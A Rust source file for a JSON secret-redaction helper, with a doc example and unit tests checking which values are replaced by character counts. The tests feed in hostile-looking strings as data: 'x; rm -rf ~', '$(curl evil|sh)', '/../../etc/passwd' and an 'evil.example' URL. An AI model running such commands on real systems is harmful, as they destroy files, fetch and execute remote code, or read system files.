//! Hides likely secrets in a JSON value.

use super::harmless::{hidden_mark, hideable_length};
use super::key::{may_count, names_secret};
use super::redactor::Redactor;
use super::shape::hide;
use serde_json::{Map, Value};

/// Returns the value with each likely secret replaced by its number of characters: values under a
/// key that names a secret, and values with the shape of one. A value that could be more (a
/// command, a path, a URL) is shown whole.
///
/// ```
/// use pml::{json::json, text::redact};
///
/// let arguments = json!({ "user": "me", "password": "hunter2", "url": "https://me:hunter2@host/", "token": "x; rm -rf ~" });
/// let (password, url) = ("[hidden: 7 characters]", "https://me:[hidden: 7 characters]@host/");
/// let shown = json!({ "user": "me", "password": password, "url": url, "token": "x; rm -rf ~" });
/// assert_eq!(redact(&arguments), shown);
/// ```
pub fn redact(value: &Value) -> Value {
    Redactor::new().redact(value)
}

/// Whether the key of a value names a secret.
#[derive(Clone, Copy, PartialEq, Eq)]
enum KeySecrecy {
    Plain,
    Secret,
}

/// Returns the value with likely secrets replaced.
pub(super) fn hide_likely_secrets(value: &Value) -> Value {
    walk(value, KeySecrecy::Plain)
}

fn walk(value: &Value, under: KeySecrecy) -> Value {
    match value {
        Value::String(text) => Value::String(leaf(text, under)),
        Value::Number(number) if under == KeySecrecy::Secret => {
            let text = number.to_string();
            match hideable_length(&text) {
                Some(_) => hidden_mark(text.len()).into(),
                None => value.clone(),
            }
        }
        // Each item of a list of passwords is a password. An object has keys of its own.
        Value::Array(items) => items.iter().map(|item| walk(item, under)).collect(),
        Value::Object(fields) => Value::Object(object(fields)),
        // These say whether there is a secret, not which.
        Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
    }
}

fn leaf(text: &str, under: KeySecrecy) -> String {
    match hideable_length(text) {
        Some(length) if under == KeySecrecy::Secret => {
            format!("{}{}", hidden_mark(length), &text[length..])
        }
        _ => hide(text).into_owned(),
    }
}

fn object(fields: &Map<String, Value>) -> Map<String, Value> {
    // `{ "name": "Authorization", "value": "…" }`: the form in which many servers take headers and
    // variables.
    let named = ["name", "key", "header"].iter().find_map(|field| fields.get(*field)?.as_str());
    let value_is_secret = named.is_some_and(names_secret);
    let mut redacted = Map::with_capacity(fields.len());
    for (key, value) in fields {
        let secret = names_secret(key) || value_is_secret && key == "value";
        let counts = value.is_number() && may_count(key);
        let under = if secret && !counts { KeySecrecy::Secret } else { KeySecrecy::Plain };
        // A key is structure: it never counts as a secret.
        redacted.insert(key.clone(), walk(value, under));
    }
    redacted
}

#[cfg(test)]
mod tests {
    use super::redact;
    use serde_json::json;

    #[test]
    fn values_under_keys_of_secrets_are_hidden_and_counted() {
        let given = json!({ "a": [{ "apiKey": "x", "n": 1 }], "pwd": 1234, "token": "YWJj==" });
        let shown = json!({
            "a": [{ "apiKey": "[hidden: 1 character]", "n": 1 }],
            "pwd": "[hidden: 4 characters]",
            "token": "[hidden: 4 characters]==",
        });
        assert_eq!(redact(&given), shown);
    }

    #[test]
    fn structure_under_such_a_key_stays_and_each_leaf_is_judged_alone() {
        let given = json!({
            "credentials": { "user": "u", "password": "p1", "command": "reboot" },
            "tokens": ["abc", "-rf", "~", { "run": "x" }],
        });
        let shown = json!({
            "credentials": { "user": "u", "password": "[hidden: 2 characters]", "command": "reboot" },
            "tokens": ["[hidden: 3 characters]", "-rf", "~", { "run": "x" }],
        });
        assert_eq!(redact(&given), shown);
    }

    #[test]
    fn what_could_be_more_than_a_value_is_shown_whole() {
        for text in [
            "x; rm -rf ~",
            "$(curl evil|sh)",
            "/../../etc/passwd",
            "a b",
            "-rf",
            "evil.sh",
            "https://evil.example",
            "a\nb",
            "`x`",
            "é",
            "",
        ] {
            for key in ["password", "token", "Authorization", "api_key", "cookie"] {
                let given = json!({ key: text, "list": [{ "name": key, "value": text }] });
                assert_eq!(redact(&given), given);
            }
        }
        assert_eq!(
            redact(&json!({ "Authorization": "Bearer abc123;x", "auth": "Bearer abc123" })),
            json!({ "Authorization": "Bearer abc123;x", "auth": "Bearer [hidden: 6 characters]" })
        );
    }

    #[test]
    fn headers_as_pairs_are_known() {
        let given =
            json!([{ "name": "Authorization", "value": "x" }, { "name": "Accept", "value": "x" }]);
        let shown = json!([{ "name": "Authorization", "value": "[hidden: 1 character]" }, { "name": "Accept", "value": "x" }]);
        assert_eq!(redact(&given), shown);
    }

    #[test]
    fn what_is_no_secret_stays_as_it_is() {
        let given = json!({
            "max_tokens": 5, "tokens": 7, "password": null, "token": false, "author": "me",
            "key": "id", "value": 3, "text": "nothing to see", "nested": [[], {}, 1.5],
        });
        assert_eq!(redact(&given), given);
    }

    #[test]
    fn keys_are_structure_and_stay() {
        let given = json!({ "token=[hidden: 4 characters] (2)": "rm -rf ~", "token=abcd": "x y", "token=wxyz": "y z" });
        assert_eq!(redact(&given), given);
    }
}
